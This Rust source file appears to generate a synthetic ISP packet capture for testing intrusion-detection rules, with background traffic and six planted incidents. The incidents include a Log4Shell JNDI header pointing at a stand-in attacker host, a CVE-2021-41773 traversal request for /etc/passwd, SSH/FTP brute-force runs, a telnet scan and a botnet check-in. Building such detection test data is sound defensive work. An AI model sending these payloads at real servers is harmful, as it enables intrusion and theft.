//! The demonstration's capture: ten minutes at a small Internet provider, mostly dull, with six things in it that a
//! national centre wants to hear of.
//!
//! The incidents, each found by a rule of `rules/starter`:
//! 1. an exploit attempt against a subscriber's web server (CVE-2021-44228, then CVE-2021-41773),
//! 2. a DNS query for a listed domain,
//! 3. a TLS connection with a listed server name,
//! 4. a run of SSH logins from one address, and one of FTP logins,
//! 5. a scan of port 23 from an infected subscriber,
//! 6. a bot's report home over plain HTTP.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use serde::Deserialize;

use super::datagram;
use super::dns::{self, Answer};
use super::entropy::Entropy;
use super::http::{Coding, Request, Response};
use super::link::LinkType;
use super::login;
use super::network::Route;
use super::scenario_file::START_SECONDS;
use super::tcp::{Conversation, Side};
use super::tls;
use super::trace::Trace;

const SECOND: u64 = 1_000_000_000;
/// How long the background goes on.
const DURATION_SECONDS: u64 = 600;
const WEB_VISITS: u64 = 120;
const TLS_VISITS: u64 = 200;
const LOOKUPS: u64 = 300;
const PINGS: u64 = 40;

const WEB_SITES: [&str; 6] = [
    "www.example.com",
    "news.example.net",
    "shop.example.org",
    "static.example.com",
    "weather.example.net",
    "bank.example.org",
];
const RESOLVER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 53);
const SUBSCRIBER_WEB_SERVER: Ipv4Addr = Ipv4Addr::new(10, 20, 5, 80);
const SUBSCRIBER_SHELL_SERVER: Ipv4Addr = Ipv4Addr::new(10, 20, 9, 22);
const INFECTED_SUBSCRIBER: Ipv4Addr = Ipv4Addr::new(10, 20, 77, 7);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
const COMMAND_AND_CONTROL: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 66);

/// Which part of the day to make.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
pub enum Part {
    /// Background and incidents.
    #[serde(rename = "demo")]
    Everything,
    /// The background alone: no rule may fire on it.
    #[serde(rename = "demo-background")]
    Background,
    /// The incidents alone: much to find in few packets.
    #[serde(rename = "demo-incidents")]
    Incidents,
}

/// Makes the capture; the same seed gives the same bytes.
#[must_use]
pub fn make(seed: u64, part: Part) -> Trace {
    let mut day = Day {
        trace: Trace::new(LinkType::Ethernet, START_SECONDS),
        entropy: Entropy::new(seed),
        next_subscriber: 0,
    };
    if part != Part::Incidents {
        day.background();
    }
    if part != Part::Background {
        day.web_exploit();
        day.listed_domain();
        day.listed_server_name();
        day.login_runs();
        day.outbound_scan();
        day.report_home();
    }
    day.trace.sort_by_time();
    day.trace
}

struct Day {
    trace: Trace,
    entropy: Entropy,
    next_subscriber: u32,
}

impl Day {
    fn background(&mut self) {
        for _ in 0..WEB_VISITS {
            self.at_any_time();
            self.web_visit();
        }
        for _ in 0..TLS_VISITS {
            self.at_any_time();
            self.tls_visit();
        }
        for _ in 0..LOOKUPS {
            self.at_any_time();
            let site = *self.entropy.pick(&WEB_SITES);
            self.look_up(site);
        }
        for number in 0..PINGS {
            self.at_any_time();
            let (client, route) = self.subscriber();
            let sequence = u16::try_from(number).unwrap_or(0);
            datagram::ping(
                &mut self.trace,
                &route,
                client.ip(),
                server_address(client.ip(), 1),
                sequence,
                b"abcdefghijklmnopqrst",
            );
        }
        self.at_any_time();
        self.administrators_login();
        self.at_any_time();
        self.time_requests();
    }

    /// Two pages on one connection, one of them compressed.
    fn web_visit(&mut self) {
        let site = *self.entropy.pick(&WEB_SITES);
        self.look_up(site);
        let (client, route) = self.subscriber();
        let coding = *self.entropy.pick(&[
            Coding::Plain,
            Coding::Chunked,
            Coding::Gzip,
            Coding::GzipChunked,
        ]);
        let lines = usize::try_from(self.entropy.between(5, 400)).unwrap_or(5);
        let page = format!(
            "<html><title>{site}</title>{}</html>",
            "<p>The weather stays fine.</p>\n".repeat(lines)
        );
        let server = SocketAddr::new(server_address(client.ip(), 80), 80);
        let mut talk = Conversation::new(&mut self.trace, route, client, server);
        talk.open();
        talk.send(Side::Client, &Request::get(site, "/").bytes());
        talk.send(Side::Server, &Response::page(&page, coding).bytes());
        talk.pause_milliseconds(350);
        talk.send(
            Side::Client,
            &Request::get(site, "/style.css?version=3").bytes(),
        );
        talk.send(
            Side::Server,
            &Response::page("body { margin: 1em }", Coding::Plain).bytes(),
        );
        talk.close();
    }

    fn tls_visit(&mut self) {
        let site = *self.entropy.pick(&WEB_SITES);
        self.look_up(site);
        let (client, route) = self.subscriber();
        let server = SocketAddr::new(server_address(client.ip(), 43), 443);
        let bytes = usize::try_from(self.entropy.between(500, 60_000)).unwrap_or(500);
        let mut talk =
            Conversation::new(&mut self.trace, route, client, server).round_trip_milliseconds(35);
        tls::visit(&mut talk, site, bytes, &mut self.entropy);
    }

    fn look_up(&mut self, name: &str) {
        let (client, route) = self.subscriber();
        let resolver = SocketAddr::new(server_address(client.ip(), 53), 53);
        let answer = Answer::Address(server_address(client.ip(), 80));
        dns::lookup(&mut self.trace, &route, client, resolver, name, &answer);
    }

    /// One login over SSH that is nobody's business.
    fn administrators_login(&mut self) {
        let (client, route) = self.subscriber();
        let server = SocketAddr::new(server_address(client.ip(), 22), 22);
        let mut talk = Conversation::new(&mut self.trace, route, client, server);
        login::ssh_attempt(&mut talk, "SSH-2.0-OpenSSH_9.7", &mut self.entropy);
    }

    fn time_requests(&mut self) {
        for _ in 0..20 {
            let (client, route) = self.subscriber();
            let server = SocketAddr::new(server_address(client.ip(), 123), 123);
            let mut request = vec![0; 48];
            request[0] = 0x23;
            datagram::send_udp(&mut self.trace, &route, client, server, &request);
            self.trace.pause_nanoseconds(SECOND / 4);
            request[0] = 0x24;
            request[1] = 2;
            datagram::send_udp(&mut self.trace, &route, server, client, &request);
        }
    }

    fn web_exploit(&mut self) {
        self.at(120);
        let host = "portal.example.org";
        let lookup = "User-Agent: ${jndi:ldap://203.0.113.99:1389/a}";
        let mut log4shell = Request::get(host, "/login").with_header(lookup);
        log4shell.user_agent.clear();
        let traversal = Request::get(host, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd");
        for (port, request) in [(51_001, log4shell), (51_002, traversal)] {
            let server = to(SUBSCRIBER_WEB_SERVER, 80);
            let mut talk = Conversation::new(
                &mut self.trace,
                Route::default(),
                to(ATTACKER, port),
                server,
            );
            talk.open();
            talk.send(Side::Client, &request.bytes());
            talk.send(Side::Server, &Response::status(404, "Not Found").bytes());
            talk.close();
        }
    }

    fn listed_domain(&mut self) {
        self.at(180);
        let client = to(Ipv4Addr::new(10, 20, 31, 14), 53_211);
        let answer = Answer::Address(IpAddr::V4(COMMAND_AND_CONTROL));
        for _ in 0..3 {
            let resolver = to(RESOLVER, 53);
            dns::lookup(
                &mut self.trace,
                &Route::default(),
                client,
                resolver,
                "update-check.malware.example",
                &answer,
            );
            self.trace.pause_nanoseconds(5 * SECOND);
        }
    }

    fn listed_server_name(&mut self) {
        self.at(200);
        let client = to(Ipv4Addr::new(10, 20, 31, 14), 53_900);
        let mut talk = Conversation::new(
            &mut self.trace,
            Route::default(),
            client,
            to(COMMAND_AND_CONTROL, 443),
        );
        tls::visit(&mut talk, "gate.botnet.example", 2_000, &mut self.entropy);
    }

    fn login_runs(&mut self) {
        self.at(240);
        for port in 52_000..52_030 {
            let mut talk = Conversation::new(
                &mut self.trace,
                Route::default(),
                to(ATTACKER, port),
                to(SUBSCRIBER_SHELL_SERVER, 22),
            );
            login::ssh_attempt(&mut talk, "SSH-2.0-libssh2_1.11.0", &mut self.entropy);
            self.trace.pause_nanoseconds(SECOND / 2);
        }
        self.at(300);
        for port in 52_100..52_120 {
            let mut talk = Conversation::new(
                &mut self.trace,
                Route::default(),
                to(ATTACKER, port),
                to(SUBSCRIBER_SHELL_SERVER, 21),
            );
            login::ftp_attempt(&mut talk, "admin", &format!("winter{port}"));
            self.trace.pause_nanoseconds(SECOND / 2);
        }
    }

    fn outbound_scan(&mut self) {
        self.at(360);
        for host in 1..=60_u8 {
            let victim = to(Ipv4Addr::new(203, 0, 113, host), 23);
            let port = 40_000 + u16::from(host);
            let mut talk = Conversation::new(
                &mut self.trace,
                Route::default(),
                to(INFECTED_SUBSCRIBER, port),
                victim,
            );
            if host % 7 == 0 {
                talk.refuse();
            } else {
                talk.begin();
            }
            self.trace.pause_nanoseconds(SECOND / 10);
        }
    }

    fn report_home(&mut self) {
        self.at(420);
        let mut report = Request::post(
            "gate.botnet.example",
            "/gate.php",
            "id=7f3a&build=12&tasks=0",
        );
        report.user_agent = "bot/1.0".to_owned();
        let client = to(INFECTED_SUBSCRIBER, 41_500);
        let mut talk = Conversation::new(
            &mut self.trace,
            Route::default(),
            client,
            to(COMMAND_AND_CONTROL, 80),
        );
        talk.open();
        talk.send(Side::Client, &report.bytes());
        talk.send(
            Side::Server,
            &Response::page("wait 600", Coding::Plain).bytes(),
        );
        talk.close();
    }

    fn at(&mut self, seconds: u64) {
        self.trace
            .set_now_nanoseconds((START_SECONDS + seconds) * SECOND);
    }

    fn at_any_time(&mut self) {
        let offset = self.entropy.below(DURATION_SECONDS * SECOND);
        self.trace
            .set_now_nanoseconds(START_SECONDS * SECOND + offset);
    }

    /// The next subscriber and the way to him: every fourth has IPv6, every third comes through a QinQ metro trunk.
    fn subscriber(&mut self) -> (SocketAddr, Route) {
        self.next_subscriber += 1;
        let number = self.next_subscriber;
        let port = self.entropy.ephemeral_port();
        let [_, _, high, low] = (number % 20_000).to_be_bytes();
        let address = if number.is_multiple_of(4) {
            let [a, b] = [u16::from(high), u16::from(low)];
            IpAddr::from([0x2001, 0xdb8, 0x20, a, 0, 0, 0, b + 1])
        } else {
            IpAddr::V4(Ipv4Addr::new(10, 20, 100 + high % 100, low.max(1)))
        };
        let vlans = if number.is_multiple_of(3) {
            vec![300, 17]
        } else {
            Vec::new()
        };
        (
            SocketAddr::new(address, port),
            Route {
                vlans,
                hop_limit: 60,
                ..Route::default()
            },
        )
    }
}

fn to(address: Ipv4Addr, port: u16) -> SocketAddr {
    SocketAddr::new(IpAddr::V4(address), port)
}

/// A server outside, of the same family as its client.
fn server_address(client: IpAddr, host: u8) -> IpAddr {
    match client {
        IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::new(198, 51, 100, host)),
        IpAddr::V6(_) => IpAddr::from([0x2001, 0xdb8, 0xffff, 0, 0, 0, 0, u16::from(host)]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_frames_and_another_seed_others() {
        let first = make(1, Part::Everything);
        assert_eq!(first.frames(), make(1, Part::Everything).frames());
        assert_ne!(first.frames(), make(2, Part::Everything).frames());
    }

    #[test]
    fn frames_are_in_the_order_of_time() {
        let trace = make(1, Part::Everything);
        assert!(
            trace
                .frames()
                .is_sorted_by_key(|frame| frame.time_nanoseconds)
        );
        let parts = [Part::Background, Part::Incidents].map(|part| make(1, part).frames().len());
        assert_eq!(trace.frames().len(), parts.iter().sum::<usize>());
    }
}
